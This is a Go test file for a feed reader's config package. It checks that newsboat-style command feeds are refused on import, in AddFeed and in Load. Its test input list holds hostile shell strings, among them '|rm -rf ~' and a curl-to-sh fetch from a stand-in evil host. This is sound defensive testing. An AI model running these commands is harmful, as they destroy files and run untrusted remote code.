package config

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
)

// commandForms are the ways newsboat (and programs that copied it) spell a
// feed that runs a program, in the variants a hand-edited or generated
// file may hold: padded, tab-led, upper or mixed case.
var commandForms = []string{
	"|rm -rf ~",
	" |rm -rf ~",
	"\t|curl https://evil.example/x | sh",
	"exec:~/bin/fetch.sh",
	"  exec:ls",
	"EXEC:/bin/sh",
	"Exec:/bin/sh",
	"filter:~/bin/f.sh:https://example.com/x",
	"FILTER:x:https://example.com/x",
	"query:Unread:unread = \"yes\"",
	"Query:x:y",
}

// TestImportNeverMakesCommandSources imports every command form from
// both formats Import reads, and carries what was imported through the
// path "brief import" takes (AddFeed, Save, Load): no subscription may
// end up as a command, whatever the spelling.
func TestImportNeverMakesCommandSources(t *testing.T) {
	var opml, urls strings.Builder
	opml.WriteString(`<?xml version="1.0"?><opml version="2.0"><body>`)
	for _, u := range commandForms {
		esc := strings.NewReplacer("&", "&amp;", `"`, "&quot;", "<", "&lt;", "\t", "&#9;").Replace(u)
		fmt.Fprintf(&opml, `<outline type="rss" text="t" xmlUrl="%s"/>`, esc)
		fmt.Fprintf(&opml, `<outline text="folder"><outline xmlurl="%s"/></outline>`, esc)
	}
	opml.WriteString(`<outline text="ok" xmlUrl="https://example.com/ok.xml"/></body></opml>`)
	for _, u := range commandForms {
		urls.WriteString(u + "\n")
		urls.WriteString(`"` + strings.ReplaceAll(u, `"`, `\"`) + `" tag` + "\n")
	}
	urls.WriteString("https://example.com/ok.xml\n")

	for _, c := range []struct{ name, text string }{{"subs.opml", opml.String()}, {"urls", urls.String()}} {
		t.Run(c.name, func(t *testing.T) {
			res, err := Import(strings.NewReader(c.text), c.name)
			if err != nil {
				t.Fatal(err)
			}
			if len(res.Feeds) != 1 || res.Feeds[0].URL != "https://example.com/ok.xml" {
				t.Errorf("imported %+v", res.Feeds)
			}
			if want := 2 * len(commandForms); len(res.Skipped) != want {
				t.Errorf("%d skipped, want %d:\n%s", len(res.Skipped), want, strings.Join(res.Skipped, "\n"))
			}
			for _, why := range res.Skipped {
				if !strings.Contains(why, "never runs") && !strings.Contains(why, "newsboat query") {
					t.Errorf("skipped without saying it runs nothing: %q", why)
				}
			}

			path := filepath.Join(t.TempDir(), "config.toml")
			cfg, err := Load(path)
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range res.Feeds {
				if err := cfg.AddFeed(f); err != nil {
					t.Fatal(err)
				}
			}
			if err := cfg.Save(); err != nil {
				t.Fatal(err)
			}
			back, err := Load(path)
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range back.Subscriptions() {
				if _, kind, err := checkSource(f.URL); err != nil || kind == kindPath {
					t.Errorf("subscribed to %q (%v)", f.URL, err)
				}
			}
		})
	}
}

// TestCommandSourcesRefusedEverywhere: a command form is refused by
// AddFeed ("brief add") and by Load (a hand-written config), not only by
// import.
func TestCommandSourcesRefusedEverywhere(t *testing.T) {
	for _, u := range commandForms {
		c := Defaults()
		c.Path = filepath.Join(t.TempDir(), "config.toml")
		if err := c.AddFeed(Feed{URL: u}); err == nil {
			t.Errorf("AddFeed(%q) accepted it", u)
		}
		if _, kind, err := checkSource(u); err == nil {
			t.Errorf("checkSource(%q) = kind %d, want it refused", u, kind)
		}
	}
	// A pipe further in is only a character of a file name or a URL: read,
	// never run.
	for u, want := range map[string]sourceKind{"file:///tmp/|rm": kindFile, "https://example.com/|rm": kindHTTP} {
		if _, kind, err := checkSource(u); err != nil || kind != want {
			t.Errorf("checkSource(%q) = %d, %v; want kind %d", u, kind, err, want)
		}
	}
}
